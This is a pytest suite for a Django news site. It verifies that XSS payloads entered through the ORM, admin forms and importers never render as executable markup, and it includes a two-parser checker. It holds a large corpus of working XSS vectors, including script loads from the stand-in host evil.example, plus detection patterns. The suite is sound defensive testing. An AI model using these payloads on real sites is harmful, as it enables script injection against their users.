"""
Cross-site scripting: whatever editors, importers or code store, the public article
page holds nothing a browser would run.

Every payload of PAYLOADS goes into every field readers see, by each way text reaches
the database: the ORM, the admin change form and the importers. The page is then read
by two parsers (the standard library's html.parser through BeautifulSoup, and
html5lib, which parses as browsers do) and as raw text, by assert_nothing_executable.

html5lib: bleach vendors its own copy (bleach._vendor.html5lib) instead of depending
on the package, so the package is used when installed and the vendored copy otherwise.
No payload holds a NUL character: PostgreSQL refuses to store one in text.
"""

import html
import json
import re
from dataclasses import dataclass

import pytest
from bs4 import BeautifulSoup, Tag
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from articles.importers import ImportFailed, interchange
from articles.importers import html as html_importer
from articles.importers import text as text_importer
from articles.models import Article, Correction, Picture
from articles.sanitize import ALLOWED_TAGS, TABLE_TAGS

from .admin_forms import add_inline_row, change_url, errors, form_fields, press, saved, staff_user
from .factories import add_footnote, add_link, add_section, make_article, make_picture, png_upload

try:
    import html5lib
except ImportError:  # bleach ships html5lib inside itself
    from bleach._vendor import html5lib

pytestmark = pytest.mark.django_db

# -- The corpus ---------------------------------------------------------------------

PAYLOADS = [
    # Script elements, in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "</script><script>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img src=x onerror="alert(1)"',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<p onclick=alert(1)>click</p>",
    '<a href="https://example.org/" onmouseover=alert(1)>link</a>',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<object data=x onerror=alert(1)>",
    # javascript:, vbscript: and data: URLs with case, whitespace, entity and percent tricks
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="%6Aavascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="javascript:alert(1)" href="https://example.org/">x</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<embed src="javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    "javascript:alert(1)",
    "\tJavaScript:alert(document.domain)",
    'https://example.org/"><script>alert(1)</script>',
    'https://example.org/" onmouseover="alert(1)',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) />"
    "<text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    # Styles
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<a href="https://example.org/" style="position:fixed;inset:0">x</a>',
    # Elements that load, navigate or submit
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<isindex action=javascript:alert(1) type=image>",
    # Raw-text breakouts and mutation XSS
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<title><img src=x onerror=alert(1)></title>",
    "</title><script>alert(1)</script>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "</textarea><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<? ><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    # Footnote markers inside attribute values (the body is post-processed after cleaning)
    '<a title="x>[^ref1] onmouseover=alert(1) y=" href="https://example.org/">t</a>',
    '<a title="</a>[^ref1]" href="https://example.org/">t</a>',
    # Attribute and element breakouts for plain-text fields
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</p><img src=x onerror=alert(1)><p>",
    "`\"'><img src=x onerror=alert(1)>",
    "</h1><script>alert(1)</script>",
    'x" http-equiv="refresh" content="0;url=javascript:alert(1)',
    # Tables (allowed markup, attributes held to spans and scope; the caption names the region)
    "<table><caption><img src=x onerror=alert(1)></caption><tr><td>x</td></tr></table>",
    '<table><tr><td onclick="alert(1)" style="x" colspan="2 onmouseover=alert(1)">x</td></tr>',
    '<table background="javascript:alert(1)"><tr><th scope="row" onfocus="alert(1)">x</th>',
    '<table><caption>" autofocus onfocus="alert(1)" x="</caption><tr><td>x</td></tr></table>',
    "</td></tr></table></div><script>alert(1)</script>",
]

# Short ids, so a failing test names its payload.
PAYLOAD_IDS = [f"p{index:03d}" for index in range(len(PAYLOADS))]
# The admin round trip is the slowest: every fourth payload (still well over twenty).
ADMIN_PAYLOADS = PAYLOADS[::4]
ADMIN_IDS = PAYLOAD_IDS[::4]


# -- Reading a page for anything executable ----------------------------------------

# Every element the article page's templates and the sanitiser's policy can produce.
PAGE_TAGS = frozenset(
    {
        "html", "head", "meta", "title", "link", "script", "body", "a", "header", "nav", "ul",
        "li", "form", "label", "input", "button", "main", "article", "p", "h1", "h2", "h3", "h4",
        "span", "time", "figure", "picture", "source", "img", "figcaption", "div", "section",
        "strong", "em", "sup", "sub", "cite", "ol", "aside", "footer", "blockquote", "br",
    }
    | TABLE_TAGS
)  # fmt: skip
# Inside <main>: no page furniture (head elements, the search form).
MAIN_TAGS = PAGE_TAGS - {"html", "head", "meta", "title", "link", "script", "body", "form"}
MAIN_TAGS -= {"label", "input", "button", "nav", "main"}
URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
        "srcset", "dynsrc", "lowsrc", "codebase", "cite", "longdesc", "usemap", "ping",
        "manifest", "icon", "values", "to", "from", "by",
    }
)  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
BANNED_EVERYWHERE = frozenset(
    {
        "iframe", "object", "embed", "base", "style", "svg", "math", "applet", "frame",
        "frameset", "template", "noscript", "textarea", "xmp", "plaintext", "noembed",
        "isindex", "keygen", "video", "audio", "marquee", "details", "select", "portal",
    }
)  # fmt: skip
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u00ad\u200b-\u200f\u2028\u2029\u2060\ufeff]")
# A start or end tag; a quoted attribute value may hold ">" (bleach leaves it unescaped).
_RAW_TAG = re.compile(r"<(/?)([A-Za-z][^\s/>]*)((?:[^>\"']|\"[^\"]*\"|'[^']*')*)>?")
_QUOTED = re.compile(r"\"[^\"]*\"|'[^']*'")
_RAW_SCRIPT = re.compile(r"<script\b", re.IGNORECASE)
_JSON_LD = re.compile(
    r'<script type="application/ld\+json">(.*?)</script>', re.IGNORECASE | re.DOTALL
)
_PAYLOAD_TAG = re.compile(r"<[A-Za-z!?][^>]*>?")
_DANGEROUS_IN_TAG = re.compile(
    r"\bon\w+\s*=|\bstyle\s*=|javascript:|vbscript:|data:", re.IGNORECASE
)
# The page's own bare tags (<title>, <main>…) say nothing about where a payload went.
_OWN_BARE_TAG = re.compile(r"<([a-z0-9]+)\s*>", re.IGNORECASE)


def _dangerous_markup(payload):
    """
    The payload's tags that must never reach the page as markup: tags the sanitiser
    does not allow, and any tag carrying a handler, a style or a script URL.
    """
    for match in _PAYLOAD_TAG.finditer(payload):
        tag = match[0]
        bare = _OWN_BARE_TAG.fullmatch(tag)
        if bare and bare[1].lower() in PAGE_TAGS - {"script"}:
            continue
        name = re.match(r"<([A-Za-z][\w:-]*)", tag)
        if not name or name[1].lower() not in ALLOWED_TAGS or _DANGEROUS_IN_TAG.search(tag):
            yield tag


@dataclass(frozen=True)
class Element:
    parser: str
    name: str
    attrs: dict
    text: str
    path: tuple  # the descriptions of its ancestors and itself
    in_main: bool

    def where(self):
        return f"[{self.parser}] " + " > ".join(self.path[-5:])


def _describe(name, attrs):
    classes = attrs.get("class", "").split()
    ident = f"#{attrs['id']}" if "id" in attrs else ""
    return name + "".join(f".{c}" for c in classes[:1]) + ident


def _walk(parser, tops, children, name_and_attrs, text):
    """Every element from ``tops`` down, depth first, with its path and whether it is in <main>."""
    stack = [(top, (), False) for top in reversed(tops)]
    while stack:
        node, ancestors, in_main = stack.pop()
        described = name_and_attrs(node)
        if described is None:  # text, comments, processing instructions
            continue
        name, attrs = described
        path = (*ancestors, _describe(name, attrs))
        yield Element(parser, name, attrs, text(node) if name == "script" else "", path, in_main)
        inside = in_main or name == "main"
        stack.extend((child, path, inside) for child in reversed(children(node)))


def _soup_name_and_attrs(node):
    if not isinstance(node, Tag):
        return None
    attrs = {
        name.lower(): " ".join(value) if isinstance(value, list) else str(value)
        for name, value in node.attrs.items()
    }
    return node.name.lower(), attrs


def _soup_elements(content):
    """Every element as html.parser (through BeautifulSoup) reads the page."""
    soup = BeautifulSoup(content, "html.parser")
    return _walk(
        "html.parser",
        list(soup.children),
        lambda node: list(node.children),
        _soup_name_and_attrs,
        Tag.get_text,
    )


def _local(name):
    if name.startswith("{http://www.w3.org/1999/xlink}"):
        return "xlink:" + name.rpartition("}")[2]
    return name.rpartition("}")[2].lower()


def _etree_name_and_attrs(node):
    if not isinstance(node.tag, str):
        return None
    return _local(node.tag), {_local(key): value for key, value in node.attrib.items()}


def _html5lib_elements(content):
    """Every element as html5lib, the WHATWG parsing algorithm browsers follow, reads the page."""
    root = html5lib.parse(content, treebuilder="etree", namespaceHTMLElements=False)
    return _walk(
        "html5lib",
        [root],
        list,
        _etree_name_and_attrs,
        lambda node: "".join(node.itertext()),
    )


def _url_is_dangerous(value):
    """
    ``value`` as a parser read it, character references already decoded once (as a
    browser decodes them); browsers skip whitespace and controls, and ignore case.
    """
    return _INVISIBLE.sub("", value).lower().startswith(BAD_SCHEMES)


def _element_findings(element):
    found = []
    name, attrs = element.name, element.attrs
    for attribute, value in attrs.items():
        if attribute.startswith("on"):
            found.append(f"event handler {attribute}={value!r}")
        if attribute == "style":
            found.append(f"style attribute {value!r}")
        if attribute == "srcdoc":
            found.append(f"srcdoc attribute {value!r}")
        if attribute in URL_ATTRIBUTES:
            parts = value.split(",") if attribute == "srcset" else [value]
            if any(_url_is_dangerous(part) for part in parts):
                found.append(f"dangerous URL {attribute}={value!r}")
    if name in BANNED_EVERYWHERE:
        found.append(f"<{name}> element")
    if name == "meta" and "http-equiv" in attrs:
        found.append("<meta http-equiv>")
    if name == "link" and "import" in attrs.get("rel", "").lower().split():
        found.append("<link rel=import>")
    if element.in_main:
        if name not in MAIN_TAGS:
            found.append(f"<{name}> inside <main>")
        if name == "img" and not attrs.get("src", "").startswith(settings.MEDIA_URL):
            found.append(f"<img> not from our media: src={attrs.get('src')!r}")
    elif name == "form" and attrs.get("class") != "site-search":
        found.append("a form other than the site search")
    return [f"{element.where()}: {finding}" for finding in found]


def _parsed_findings(elements):
    found, scripts = [], []
    for element in elements:
        if element.name == "script":
            scripts.append(element)
        else:
            found += _element_findings(element)
    ld_json = [s for s in scripts if s.attrs.get("type") == "application/ld+json"]
    if len(scripts) != 1 or len(ld_json) != 1:
        found += [f"{s.where()}: <script> {s.attrs} {s.text[:80]!r}" for s in scripts]
    for script in ld_json:
        if set(script.attrs) != {"type"}:
            found.append(f"{script.where()}: JSON-LD block with attributes {script.attrs}")
        try:
            json.loads(script.text)
        except ValueError as error:
            found.append(f"{script.where()}: JSON-LD block is not JSON ({error})")
    return found


def _raw_findings(content, payload):
    found = []
    if len(_RAW_SCRIPT.findall(content)) != 1:
        found.append(f"[raw] {len(_RAW_SCRIPT.findall(content))} <script start tags")
    for block in _JSON_LD.findall(content):
        if "<" in block:
            found.append("[raw] '<' inside the JSON-LD block")
    counts = {}
    for match in _RAW_TAG.finditer(content):
        closing, name, rest = match[1], match[2].lower(), match[3]
        if name not in PAGE_TAGS:
            found.append(f"[raw] unexpected tag {match[0][:80]!r}")
        if closing:
            continue
        counts[name] = counts.get(name, 0) + 1
        outside_values = _QUOTED.sub('""', rest)
        if re.search(r"(^|[\s\"'/])(on\w+|style|srcdoc)\s*=", outside_values, re.IGNORECASE):
            found.append(f"[raw] handler or style in a tag {match[0][:80]!r}")
    if counts.get("img", 0) != counts.get("picture", 0):
        found.append(f"[raw] {counts.get('img', 0)} <img> but {counts.get('picture', 0)} <picture>")
    for marker in ("<!--", "<![CDATA[", "<?"):
        if marker in content:
            found.append(f"[raw] {marker!r} in the page")
    for markup in _dangerous_markup(payload or ""):
        if markup in content:
            found.append(f"[raw] the payload's {markup!r} appears unescaped")
    if "<script>alert" in content.lower():
        found.append("[raw] '<script>alert' unescaped")
    return found


def assert_nothing_executable(response, payload=None):
    """
    The page holds nothing a browser would run: no script but the JSON-LD block (which
    must be JSON), no event handler, no javascript:/vbscript:/data: URL, no element
    that frames, embeds, styles, submits, refreshes or rebases, read by html.parser
    and by html5lib; and, in the raw HTML, no unexpected tag and no unescaped payload.
    """
    assert response.status_code == 200, response.status_code
    content = response.content.decode()
    found = _parsed_findings(_soup_elements(content))
    found += _parsed_findings(_html5lib_elements(content))
    found += _raw_findings(content, payload)
    assert not found, f"payload {payload!r} got through:\n" + "\n".join(dict.fromkeys(found))


# -- The helper catches what it should ------------------------------------------------


class _Page:
    def __init__(self, body):
        self.status_code = 200
        self.content = body.encode()


CLEAN_PAGE = (
    '<!DOCTYPE html><html><head><title>t</title><script type="application/ld+json">{}</script>'
    '</head><body><main id="content"><p>{}</p></main></body></html>'
)


@pytest.mark.parametrize(
    "inside_main",
    [
        '<img src=x onerror="alert(1)">',
        '<a href=" jav&#x09;ascript:alert(1)">x</a>',
        "<svg><a xlink:href='data:text/html,x'>x</a></svg>",
        "<script>alert(1)</script>",
        '<p style="color:red">x</p>',
        "<iframe src=https://example.org/></iframe>",
        '<a href="&#x6A;ava&#x0A;script&#58;alert(1)">x</a>',
    ],
)
def test_the_checker_sees_executable_markup(inside_main):
    with pytest.raises(AssertionError):
        assert_nothing_executable(_Page(CLEAN_PAGE.replace("{}</p>", inside_main + "</p>")))


def test_the_checker_accepts_a_clean_page():
    assert_nothing_executable(_Page(CLEAN_PAGE))


@pytest.mark.parametrize(
    "stored",
    [
        "<img src=x onerror=alert(1)>",
        "<p>x</p><script>alert(1)</script>",
        '<a href="javascript:alert(1)">x</a>',
        '<p title="a>b" onclick="alert(1)">x</p>',
        "<svg><animate onbegin=alert(1)>",
        '<form action="https://example.org/"><input name=q></form>',
    ],
)
def test_the_checker_sees_unsanitised_markup_on_a_real_page(client, stored):
    """Markup stored past the sanitiser (a raw UPDATE) is caught on the article page."""
    article = make_article("A real page")
    add_section(article, "<p>Safe.</p>")
    type(article).objects.filter(pk=article.pk).update(body_html=stored)
    with pytest.raises(AssertionError, match="got through"):
        assert_nothing_executable(_get(client, article))


def test_the_checker_accepts_a_real_page_with_every_part(client):
    article = make_article(
        "Every part",
        lead_picture=make_picture(
            png_upload(size=(8, 6)), alt="A picture", caption="A caption", credit="Photo"
        ),
    )
    add_footnote(article, "ref1", title="A source", url="https://example.org/", year=2021)
    add_section(article, '<p>Claim.[^ref1] <a href="https://example.org/">Link</a></p>')
    Correction.objects.create(article=article, text="A fix.")
    add_link(article, title="Elsewhere", url="https://example.org/")
    article.tags.add("ai")
    assert_nothing_executable(_get(client, article))


def test_the_checker_refuses_a_json_ld_block_that_is_not_json():
    with pytest.raises(AssertionError):
        assert_nothing_executable(_Page(CLEAN_PAGE.replace(">{}</script>", ">{x</script>")))


# -- Saving the payloads --------------------------------------------------------------


def _get(client, article):
    return client.get(article.get_absolute_url())


def _shown(client, article):
    """The article's page, which prints its headline (as text: escaped)."""
    response = _get(client, article)
    assert escape(article.headline) in response.content.decode()
    return response


def _with_prefix(prefix, payload, limit):
    return f"{prefix} {payload}"[:limit]


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
def test_orm_saved_payload_runs_nowhere_on_the_page(client, payload):
    article = make_article(
        payload,
        dek=payload,
        lead_picture=make_picture(
            png_upload(size=(8, 6)),
            alt=_with_prefix("Alt", payload, 300),
            caption=payload,
            credit=_with_prefix("Photo", payload, 200),
        ),
    )
    with article.rendering_once():
        add_footnote(
            article,
            "ref1",
            title=payload,
            authors=payload,
            note=payload,
            container=payload,
            url=payload,
            year=2021,
        )
        add_footnote(article, "ref2", title="Second", url="https://example.org/" + payload)
        add_section(article, f"<p>Claim.[^ref1][^ref2]</p>{payload}<p>More.[^ref1]</p>", order=0)
        add_section(article, payload, heading=payload, order=1)
    Correction.objects.create(article=article, text=payload)
    add_link(article, title=payload, url="https://example.org/" + payload)
    add_link(article, target=make_article(_with_prefix("Other", payload, 200)))
    article.tags.add(_with_prefix("tag", payload, 100))
    assert_nothing_executable(_shown(client, article), payload)


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    """Logins here are forced: hashing a strong password for each test is time wasted."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def add_row(data, prefix, **fields):
    """What the inline's "Add another" button does: copy the empty row, then fill it in."""
    index = data[f"{prefix}-TOTAL_FORMS"]
    for name, value in list(data.items()):
        if f"{prefix}-__prefix__-" in name:
            data[name.replace("__prefix__", index)] = value
    return add_inline_row(data, prefix, **fields)


@pytest.fixture
def editor(client, django_user_model):
    user = staff_user(django_user_model, "Editor")
    client.force_login(user)
    return user


@pytest.mark.parametrize("payload", ADMIN_PAYLOADS, ids=ADMIN_IDS)
def test_admin_saved_payload_runs_nowhere_on_the_page(client, editor, payload):
    article = make_article(
        "An ordinary headline",
        lead_picture=make_picture(png_upload(size=(8, 6)), alt="Servers in a hall"),
        created_by=editor,
    )
    add_footnote(article, "ref1", title="A source")
    add_section(article, "<p>Opening claim.[^ref1]</p>")
    data = form_fields(client.get(change_url(article)))
    data.update(
        {
            "headline": payload,
            "dek": payload,
            "sections-0-heading": payload,
            "sections-0-body": f"<p>Opening claim.[^ref1]</p>{payload}",
            "footnotes-0-title": payload,
            "footnotes-0-authors": payload,
            "footnotes-0-note": payload,
        }
    )
    add_row(data, "corrections", kind="correction", text=payload)
    response = client.post(change_url(article), press(data, "publish"))
    assert saved(response), errors(response)
    picture_url = reverse("admin:articles_picture_change", args=[article.lead_picture_id])
    words = {"alt": "Servers in a hall", "caption": payload, "credit": payload}
    assert saved(client.post(picture_url, words)), errors(response)
    article.refresh_from_db()
    assert article.status == article.Status.PUBLISHED
    assert article.headline == payload.strip()
    assert_nothing_executable(_shown(client, article), payload)


def _document(payload):
    return {
        "format": interchange.FORMAT,
        "headline": payload,
        "dek": payload,
        "authors": [_with_prefix("Writer", payload, 200)],
        "tags": [_with_prefix("tag", payload, 100)],
        "lead_image": {
            "caption": payload,
            "alt": _with_prefix("Alt", payload, 300),
            "credit": _with_prefix("Photo", payload, 200),
        },
        "sections": [
            {"heading": "", "body": f"<p>Claim.[^ref1]</p>{payload}"},
            {"heading": payload, "body": payload},
        ],
        "footnotes": [
            {
                "key": "ref1",
                "authors": payload,
                "year": 2021,
                "title": payload,
                "container": payload,
                "url": payload,
                "note": payload,
            },
            {"key": "ref2", "title": payload, "url": "https://example.org/" + payload},
        ],
        "related": [
            {"title": payload, "url": "https://example.org/" + payload},
            {"title": payload, "url": payload},
        ],
        "corrections": [{"kind": "correction", "text": payload}],
        "status": "published",
    }


def _show_lead_image(article):
    """Captions are printed with their picture: give the imported article one."""
    picture = article.lead_picture or Picture()
    picture.file = png_upload(size=(8, 6))
    picture.save()
    article.lead_picture = picture
    article.save()
    return article


def _imported(document):
    article, _created = interchange.save(document, publish=True)
    return _show_lead_image(article)


def _imported_unless_refused(document):
    """
    The article imported, or None when the import was refused, with nothing written, for a
    citation marker readers would see as text (a payload hiding one in an attribute, say).
    """
    before = Article.objects.count()
    try:
        return _imported(document)
    except ImportFailed as refused:
        assert "[^" in json.dumps(document), "only a payload holding a marker may be refused"
        assert "which readers would see as it is" in str(refused)
        assert Article.objects.count() == before
        return None


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
def test_interchange_imported_payload_runs_nowhere_on_the_page(client, payload):
    article = _imported_unless_refused(_document(payload))
    if article is not None:
        assert article.headline == payload.strip()
        assert_nothing_executable(_shown(client, article), payload)


def _html_page(payload):
    """A saved web page showing the payload as text in every part, then holding it as markup."""
    shown = html.escape(payload)
    return f"""<!DOCTYPE html>
<html><head><title>{shown} | The Other Paper</title>
<meta name="description" content="{shown}"></head>
<body><nav><a href="/">Home</a></nav><article>
<h1>Headline {shown}</h1>
<p>The dek says {shown} in a whole sentence.</p>
<figure><img src="lead.jpg" alt="Alt {shown}"><figcaption>Caption {shown}</figcaption></figure>
<p>The body quotes {shown} in a paragraph.<sup>1</sup></p>
<h2>Subhead {shown}</h2>
<p>Another paragraph with {shown} in it.</p>
<h2>References</h2>
<ol><li>Source {shown}. <a href="https://example.org/{shown}">https://example.org/</a></li></ol>
<p>Held as markup: {payload}</p>
</article></body></html>"""


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
def test_html_page_import_runs_nowhere_on_the_page(client, payload):
    document = html_importer.parse(_html_page(payload))
    assert document["footnotes"][0]["key"] == "ref1"
    if article := _imported_unless_refused(document):
        assert_nothing_executable(_shown(client, article), payload)


def _text_page(payload):
    return "\n".join(
        [
            f"Headline {payload}",
            f"The dek says {payload} in a whole sentence.",
            f"Caption {payload}",
            f"Caption {payload}",
            f"The body quotes {payload} in a paragraph.[1]",
            f"Subhead {payload}",
            f"Another paragraph with {payload} in it.",
            "References",
            f"[1] Source {payload}. Retrieved from https://example.org/{payload}",
        ]
    )


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
def test_text_page_import_runs_nowhere_on_the_page(client, payload):
    if article := _imported_unless_refused(text_importer.parse(_text_page(payload))):
        assert_nothing_executable(_shown(client, article), payload)


# -- What readers see of markup -------------------------------------------------------


def test_external_links_in_a_section_get_noopener_noreferrer(client):
    article = make_article("Links")
    add_section(
        article,
        '<p><a href="https://example.org/a">one</a> <a href="HTTP://Example.org/b">two</a> '
        '<a href=" https://example.org/c ">three</a> <a href="mailto:desk@example.org">mail</a> '
        '<a href="/2026/01/01/ours/">ours</a></p>',
    )
    soup = BeautifulSoup(_get(client, article).content.decode(), "html.parser")
    links = {a.get_text(): a for a in soup.select(".article-body a")}
    for text in ["one", "two", "three"]:
        assert {"noopener", "noreferrer"} <= set(links[text].get("rel", [])), links[text]
    assert "rel" not in links["ours"].attrs


def test_external_links_from_the_admin_and_importer_get_noopener_noreferrer(client, editor):
    body = '<p>See <a href="https://example.org/report">the report</a>.</p>'
    document = {"format": interchange.FORMAT, "headline": "Imported", "status": "published"}
    article, _ = interchange.save({**document, "sections": [{"body": body}]}, publish=True)
    soup = BeautifulSoup(_get(client, article).content.decode(), "html.parser")
    assert soup.select_one(".article-body a")["rel"] == ["noopener", "noreferrer"]

    mine = make_article("Edited", created_by=editor)
    add_section(mine, "<p>Opening.</p>")
    data = form_fields(client.get(change_url(mine)))
    data["sections-0-body"] = body
    response = client.post(change_url(mine), press(data, "publish"))
    assert saved(response), errors(response)
    soup = BeautifulSoup(_get(client, mine).content.decode(), "html.parser")
    assert soup.select_one(".article-body a")["rel"] == ["noopener", "noreferrer"]


BOLD = "<b>bold</b>"


def test_plain_text_fields_show_markup_as_text(client):
    article = make_article(
        BOLD,
        dek=BOLD + " dek",
        lead_picture=make_picture(
            png_upload(size=(8, 6)),
            alt="A picture",
            caption=BOLD + " caption",
            credit=BOLD + " credit",
        ),
    )
    add_footnote(article, "ref1", title=BOLD + " title", authors=BOLD + " authors", note=BOLD)
    add_section(article, "<p>Claim.[^ref1]</p>", heading=BOLD + " heading")
    Correction.objects.create(article=article, text=BOLD + " correction", created_at=timezone.now())
    response = _get(client, article)
    content = response.content.decode()
    for parser in ("html.parser", "html5lib"):
        if parser == "html5lib":
            root = html5lib.parse(content, treebuilder="etree", namespaceHTMLElements=False)
            assert root.find(".//b") is None
            continue
        soup = BeautifulSoup(content, parser)
        assert soup.find("b") is None
        assert soup.h1.get_text() == BOLD
        assert soup.select_one(".dek").get_text() == BOLD + " dek"
        assert BOLD + " caption" in soup.select_one(".lead-image figcaption").get_text()
        assert BOLD + " credit" in soup.select_one(".lead-image .credit").get_text()
        assert soup.select_one(".article-section h2").get_text() == BOLD + " heading"
        assert soup.select_one(".notes cite").get_text() == BOLD + " title"
        citation = soup.select_one(".notes .citation").get_text()
        assert BOLD + " authors" in citation and citation.count(BOLD) == 3
        assert BOLD + " correction" in soup.select_one(".corrections li").get_text()
    assert content.count("&lt;b&gt;bold&lt;/b&gt;") >= 8
    assert_nothing_executable(response, BOLD)
